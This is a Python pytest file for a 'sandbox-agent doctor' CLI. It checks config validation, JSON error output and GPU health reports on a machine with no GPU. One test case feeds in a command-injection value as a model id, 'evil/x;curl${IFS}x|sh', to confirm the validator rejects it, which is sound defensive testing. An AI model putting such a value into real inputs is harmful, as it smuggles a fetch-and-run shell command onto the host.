"""`sandbox-agent doctor` as a person runs it: a subprocess, real exit codes, real output."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from tests.conftest import AGENT, agent_env


def run_agent(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [AGENT, *args], capture_output=True, text=True, env=env or agent_env(), timeout=60
    )


def tree(path: Path) -> list[str]:
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))


@pytest.mark.parametrize(
    "text, words",
    [
        pytest.param(
            "modle:\n  id: a/b\n",
            "error: modle (in {cfg}): unknown setting; allowed here: api, backup, docker, gpus",
            id="unknown-key",
        ),
        pytest.param(
            "model:\n  id: 'evil/x;curl${IFS}x|sh'\n",
            "error: model.id (from {cfg}): 'evil/x;curl${IFS}x|sh' is not a Hugging Face repo id",
            id="hostile-model-id",
        ),
        pytest.param(
            "api:\n  port: 0\n",
            "error: api.port (from {cfg}): 0 is not allowed: use a whole number from 1 to 65535",
            id="port",
        ),
    ],
)
def test_bad_config_exits_2_naming_the_key_and_writes_nothing(
    tmp_path: Path, text: str, words: str
) -> None:
    cfg = tmp_path / "bad.yaml"
    cfg.write_text(text + f"paths:\n  state: {tmp_path}/state\n  secrets: {tmp_path}/secrets\n")
    before = tree(tmp_path)
    result = run_agent("doctor", "--config", str(cfg))
    assert result.returncode == 2, result.stderr
    assert words.replace("{cfg}", str(cfg)) in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert tree(tmp_path) == before


def test_bad_config_with_json_is_one_json_error(tmp_path: Path) -> None:
    cfg = tmp_path / "bad.yaml"
    cfg.write_text("gpus: many\n")
    result = run_agent("doctor", "--json", "--config", str(cfg))
    assert result.returncode == 2
    body = json.loads(result.stdout)
    assert (
        body["kind"] == "BadInput"
        and body["error"]
        == f"gpus (from {cfg}): 'many' is not allowed: use auto, none, all or a count 1-64"
    )


def test_missing_config_path_is_bad_input(tmp_path: Path) -> None:
    result = run_agent("doctor", "--config", str(tmp_path / "nope.yaml"))
    assert result.returncode == 2
    assert f"error: --config: {tmp_path / 'nope.yaml'} does not exist" in result.stderr


def test_no_gpu_machine_gets_a_clear_report(tmp_path: Path, write_config) -> None:
    # This machine (and CI) has no NVIDIA device and no libnvidia-ml: the real answer.
    result = run_agent("doctor", "--json", "--config", str(write_config()))
    assert result.returncode in (0, 1), result.stderr
    report = json.loads(result.stdout)
    checks = {c["id"]: c for c in report["checks"]}
    assert {
        "host.os",
        "host.disk",
        "host.memory",
        "gpu.pci",
        "gpu.driver",
        "gpu.devices",
        "gpu.uvm",
        "docker.engine",
        "docker.gpu_runtime",
    } <= set(checks)
    assert "no NVIDIA GPU on this machine" in checks["gpu.pci"]["summary"]
    assert checks["docker.gpu_runtime"]["status"] == "skip"
    assert report["gpus"] == []
    assert report["ok"] == (result.returncode == 0)
    for check in report["checks"]:
        assert set(check) == {"id", "status", "summary", "detail", "fix"}
        assert check["status"] in ("ok", "warn", "fail", "skip")
        if check["status"] == "fail":
            assert check["fix"], f"{check['id']} failed without a fix"


def test_text_report_on_no_gpu_machine(write_config) -> None:
    result = run_agent("doctor", "--config", str(write_config()))
    assert result.returncode in (0, 1)
    assert "gpu.pci" in result.stdout and "no NVIDIA GPU on this machine" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr


def test_help_lists_the_commands() -> None:
    result = run_agent("--help")
    assert result.returncode == 0
    assert "doctor" in result.stdout
